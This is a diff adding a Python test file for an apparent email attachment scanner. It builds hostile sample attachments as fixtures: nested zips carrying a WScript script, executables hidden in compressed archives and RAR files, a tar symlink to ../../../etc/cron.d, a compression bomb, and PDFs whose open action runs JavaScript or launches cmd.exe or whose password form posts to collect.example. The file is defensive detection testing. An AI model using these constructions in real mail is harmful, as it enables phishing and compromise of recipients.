@@ -1,0 +1,255 @@
+"""Attachments looked into: archives inside archives, compressed files, tar and RAR
+listings, archives named like documents, and what a PDF can do when opened. Each case was
+met in real malicious mail (a zip in a zip holding a script, a ".pdf" that is a zip); the
+files are built here."""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import lzma
+import struct
+import tarfile
+import zlib
+
+import pytest
+from pypdf import PdfWriter
+from pypdf.annotations import Link as PdfLink
+from tests.mail.helpers import HOSPITAL, PE, message, zip_bytes
+
+from rempart.mail.attachments import MAX_INNER_BYTES, examine, inspect
+from rempart.mail.parse import Attachment, parse_message
+from rempart.mail.pdfcheck import facts
+from rempart.mail.score import score_message
+
+SCRIPT = b"var s = WScript.CreateObject('WScript.Shell'); s.Run('calc');"
+
+
+def keys(name: str, data: bytes) -> set[str]:
+    return {
+        f.key for f in inspect(Attachment(name, "application/octet-stream", data, len(data), ""))
+    }
+
+
+def test_zip_in_a_zip_holding_a_script() -> None:
+    inner = zip_bytes({"doc_notice.js": SCRIPT})
+    outer = zip_bytes({"notice94.zip": inner})
+    att = Attachment("avis.zip", "application/zip", outer, len(outer), "")
+    found = inspect(att)
+    carried = [f for f in found if f.key == "att_archive_exec"]
+    assert carried and carried[0].detail == "doc_notice.js"
+    assert carried[0].name == "avis.zip/notice94.zip"
+    # the same zip with documents only says nothing
+    plain = zip_bytes({"docs.zip": zip_bytes({"rapport.txt": b"Rapport annuel"})})
+    assert keys("docs.zip", plain) == set()
+
+
+def test_archive_named_like_a_document() -> None:
+    archive = zip_bytes({"facture.js": SCRIPT})
+    assert {"att_disguised_archive", "att_archive_exec"} <= keys("facture.pdf", archive)
+    # a Word document is a zip: no disguise
+    docx = zip_bytes({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<x/>"})
+    assert keys("rapport.docx", docx) == set()
+    assert "att_disguised_archive" not in keys("photos.zip", zip_bytes({"a.jpg": b"\xff\xd8"}))
+
+
+@pytest.mark.parametrize(
+    ("name", "pack"),
+    [
+        ("facture.exe.gz", gzip.compress),
+        ("facture.exe.bz2", bz2.compress),
+        ("facture.exe.xz", lzma.compress),
+    ],
+)
+def test_single_file_compression_is_opened(name: str, pack: object) -> None:
+    assert callable(pack)
+    found = keys(name, pack(PE))
+    assert "att_executable" in found  # by content
+    assert "att_exec_name" not in keys("notes.txt.gz", gzip.compress(b"notes de service"))
+    assert keys("notes.txt.gz", gzip.compress(b"notes de service")) == set()
+
+
+def test_compression_bomb_is_not_opened_past_its_bound() -> None:
+    bomb = gzip.compress(b"\x00" * (MAX_INNER_BYTES + 1024), compresslevel=9)
+    assert len(bomb) < MAX_INNER_BYTES // 200
+    assert keys("logs.gz", bomb) == {"att_zip_bomb"}
+    assert keys("broken.gz", b"\x1f\x8b\x08" + b"\x00" * 40) == {"att_archive_broken"}
+
+
+def _tar(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tf:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+        for name, target in (links or {}).items():
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = target
+            tf.addfile(info)
+    return buf.getvalue()
+
+
+def test_tar_and_tar_gz() -> None:
+    tgz = gzip.compress(_tar({"scan/facture.scr": PE}))
+    found = keys("scan.tgz", tgz)
+    assert {"att_archive_exec", "att_executable"} <= found
+    assert keys("photos.tar", _tar({"a.txt": b"bonjour"})) == set()
+    evil = _tar({"a.txt": b"x"}, links={"b": "../../../etc/cron.d/x"})
+    assert "att_path_traversal" in keys("b.tar", evil)
+
+
+def _rar4(files: list[tuple[str, bytes, bool]]) -> bytes:
+    """A RAR 4 archive of stored files (method 0x30), with per-file encryption flags."""
+
+    def block(kind: int, flags: int, body: bytes, data: bytes = b"") -> bytes:
+        head = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
+        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head + data
+
+    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\x00" * 6)
+    for name, data, encrypted in files:
+        raw = name.encode()
+        body = (
+            struct.pack(
+                "<IIBIIBBHI",
+                len(data),
+                len(data),
+                2,
+                zlib.crc32(data),
+                0x5A2B0000,
+                20,
+                0x30,
+                len(raw),
+                0x20,
+            )
+            + raw
+        )
+        out += block(0x74, 0x8000 | (0x04 if encrypted else 0), body, data)
+    return out + block(0x7B, 0x4000, b"")
+
+
+def test_rar_listing() -> None:
+    assert "att_archive_exec" in keys("commande.rar", _rar4([("commande.exe", PE, False)]))
+    assert "att_archive_encrypted" in keys("secret.rar", _rar4([("doc.pdf", b"%PDF-1.4", True)]))
+    assert keys("photos.rar", _rar4([("a.jpg", b"\xff\xd8\xff", False)])) == set()
+    assert keys("broken.rar", b"Rar!\x1a\x07\x00" + b"\xff" * 30) == {"att_archive_broken"}
+
+
+def raw_pdf(*objects: bytes) -> bytes:
+    """A PDF of these objects (1 is the catalog), with a correct cross-reference table."""
+    out = b"%PDF-1.4\n"
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return out
+
+
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
+
+
+def test_pdf_script_launch_form_and_embedded_file() -> None:
+    plain = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)
+    assert keys("doc.pdf", plain) == set()
+    # a script in the document's names (formatting scripts of forms look like this)
+    js = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
+        PAGES,
+        PAGE,
+        b"<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>",
+    )
+    found = inspect(Attachment("doc.pdf", "application/pdf", js, len(js), ""))
+    assert [(f.key, f.points) for f in found] == [("att_pdf_script", 20)]
+    # run at opening: worth more
+    auto = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        PAGES,
+        PAGE,
+        b"<< /S /JavaScript /JS (app.alert(1)) >>",
+    )
+    found = inspect(Attachment("doc.pdf", "application/pdf", auto, len(auto), ""))
+    assert [(f.key, f.points) for f in found] == [("att_pdf_script", 35)]
+    launch = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        PAGES,
+        PAGE,
+        b"<< /S /Launch /F (cmd.exe) >>",
+    )
+    assert "att_pdf_launch" in keys("doc.pdf", launch)
+    form = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
+        PAGES,
+        PAGE,
+        b"<< /FT /Tx /T (password) /A << /S /SubmitForm /F (https://collect.example/p) >> >>",
+    )
+    assert "att_pdf_form" in keys("doc.pdf", form)
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_attachment("facture.exe", PE)
+    buf = io.BytesIO()
+    writer.write(buf)
+    assert {"att_pdf_embedded_exec", "att_executable"} <= keys("doc.pdf", buf.getvalue())
+
+
+def test_pdf_names_written_with_escapes_are_decoded() -> None:
+    """`/J#61vaScript` is `/JavaScript` to a PDF reader (pdfid's obfuscated names)."""
+    raw = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        PAGES,
+        PAGE,
+        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
+    )
+    got = facts(raw)
+    assert got.javascript and got.auto_action and got.readable
+
+
+def test_pdf_links_are_judged_like_the_message_links() -> None:
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_annotation(0, PdfLink(rect=(10, 10, 100, 40), url="http://203.0.113.9/partage/doc"))
+    buf = io.BytesIO()
+    writer.write(buf)
+    pdf = buf.getvalue()
+    report = examine(
+        parse_message(message(attachments=[("doc.pdf", pdf, "application/pdf")])).attachments
+    )
+    assert report.links == ["http://203.0.113.9/partage/doc"]
+    v = score_message(message(attachments=[("doc.pdf", pdf, "application/pdf")]), HOSPITAL)
+    assert "sig_link_ip" in v.signals, v.reasons
+
+
+def test_hostile_pdfs_never_raise() -> None:
+    for data in (
+        b"%PDF-1.7\n" + b"\xff" * 500,
+        b"%PDF-1.4\n1 0 obj << /URI (x) /Kids [1 0 R] >>",
+        b"%PDF",
+    ):
+        got = facts(data)
+        assert got.links in ([], ["x"])
+    # a reference loop is walked once
+    loop = raw_pdf(
+        b"<< /Type /Catalog /A 2 0 R >>", b"<< /B 1 0 R /S /URI /URI (http://a.example/) >>"
+    )
+    assert facts(loop).links == ["http://a.example/"]
+    # no cross-reference at all, as hostile files are made: read as raw bytes, like pdfid
+    bare = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n"
+    got = facts(bare)
+    assert got.launch and not got.readable
+
+
+def test_eight_bit_attachment_name_is_read_as_utf8() -> None:
+    raw = message(attachments=[("x.zip", zip_bytes({"a.txt": b"x"}), "application/zip")])
+    raw = raw.replace(b'filename="x.zip"', 'filename="ФНС_558.zip"'.encode())
+    names = [a.name for a in parse_message(raw).attachments]
+    assert names == ["ФНС_558.zip"]
